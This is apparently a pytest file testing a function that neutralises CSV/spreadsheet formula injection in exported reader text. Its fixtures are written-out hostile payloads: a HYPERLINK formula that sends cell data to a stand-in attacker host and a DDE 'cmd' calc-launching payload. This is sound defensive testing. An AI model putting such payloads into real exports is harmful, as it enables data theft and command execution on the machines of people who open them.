"""Abuse case 27: what readers wrote is a formula in no table, and comes back as it was."""

import csv
import io
import random

import pytest
from openpyxl import Workbook, load_workbook

from operations.neutral import neutral, restored

SIGNS = "=+-@\uff1d\uff0b\uff0d\uff20\ufe66\ufe62\ufe63\ufe6b"
FORMULAS = [
    *(f"{sign}1+1" for sign in SIGNS),
    '=HYPERLINK("http://evil.test/?"&A1,"click")',
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1",
    "\r=1",
    "\n=1",
    "  =1",
    "\u00a0=1",
    "\u200b=1",
    "\ufeff=1",
    "\u202e=1",
    '"=1',
    '" =1',
    '""=1',
    "'=1",
    "''=1",
    "'\t=1",
]
FURTHER_ON = [
    "a;=1",
    "a; =1",
    'a"=1',
    'a","=1',
    "a\t=1",
    "a\n=1",
    "a\r\n=1",
    "a;'=1",
    "a;\u200b@x",
    "- one\n- two",
]
HARMLESS = ["", "Ana", "1+1=2", "a-b", "ana@example.org", "'tis", "\u00bfQu\u00e9?", "; ", "\u4f60"]
ALPHABET = SIGNS + ";\t\r\n\"' a,|\u200b\ufeff\u00a0"
SEPARATORS = ",;\t"


def hostile(number=3_000):
    """Whatever can be made of the signs that matter."""
    chance = random.Random(27)  # noqa: S311  (the same texts every time)
    for _ in range(number):
        yield "".join(chance.choices(ALPHABET, k=chance.randrange(9)))


def written(texts):
    """A table as the export writes it, one text a line between two others."""
    lines = io.StringIO()
    csv.writer(lines).writerows([["before", neutral(text), "behind"] for text in texts])
    return lines.getvalue()


def begins_a_formula(cell):
    """What a spreadsheet overlooks before a formula, and a formula."""
    return cell.lstrip(' "\u00a0\u200b\u202e\ufeff\t\r\n').startswith(tuple(SIGNS))


@pytest.mark.parametrize("text", FORMULAS)
def test_a_cell_that_could_be_a_formula_begins_with_an_apostrophe(text):
    assert neutral(text) == f"'{neutral(text)[1:]}"
    assert restored(neutral(text)) == text


@pytest.mark.parametrize("text", FURTHER_ON)
def test_what_another_separator_would_make_one_is_none_either(text):
    assert neutral(text) != text
    assert restored(neutral(text)) == text


@pytest.mark.parametrize("text", HARMLESS)
def test_other_text_stays_as_it_is(text):
    assert neutral(text) == restored(text) == text


def test_every_text_comes_back():
    for text in hostile():
        assert restored(neutral(text)) == text, repr(text)


@pytest.mark.parametrize("separator", SEPARATORS)
def test_no_cell_is_a_formula_whatever_separator_a_program_believes_in(separator):
    texts = [*FORMULAS, *FURTHER_ON, *hostile()]
    for text in texts:
        lines = io.StringIO(written([text]), newline="")
        cells = [cell for row in csv.reader(lines, delimiter=separator) for cell in row]
        assert not [cell for cell in cells if begins_a_formula(cell)], repr(text)


def test_a_program_that_cuts_at_every_separator_finds_none(tmp_path):
    for text in [*FORMULAS, *FURTHER_ON, *hostile()]:
        for separator in ";\t\n":
            cells = written([text]).split(separator)
            assert not [cell for cell in cells if begins_a_formula(cell)], repr(text)


def test_excel_reads_text_and_nothing_else(tmp_path):
    texts = [*FORMULAS, *FURTHER_ON, *HARMLESS]
    rows = list(csv.reader(io.StringIO(written(texts), newline="")))
    book = Workbook()
    for row in rows:
        book.active.append(row)
    book.save(tmp_path / "read.xlsx")
    cells = [cell for row in load_workbook(tmp_path / "read.xlsx").active.rows for cell in row]
    assert {cell.data_type for cell in cells if cell.value is not None} == {"s"}
    assert [restored(row[1]) for row in rows] == texts


def test_without_the_apostrophe_it_would_be_a_formula():
    book = Workbook()
    book.active.append(["=1+1"])
    assert book.active["A1"].data_type == "f"
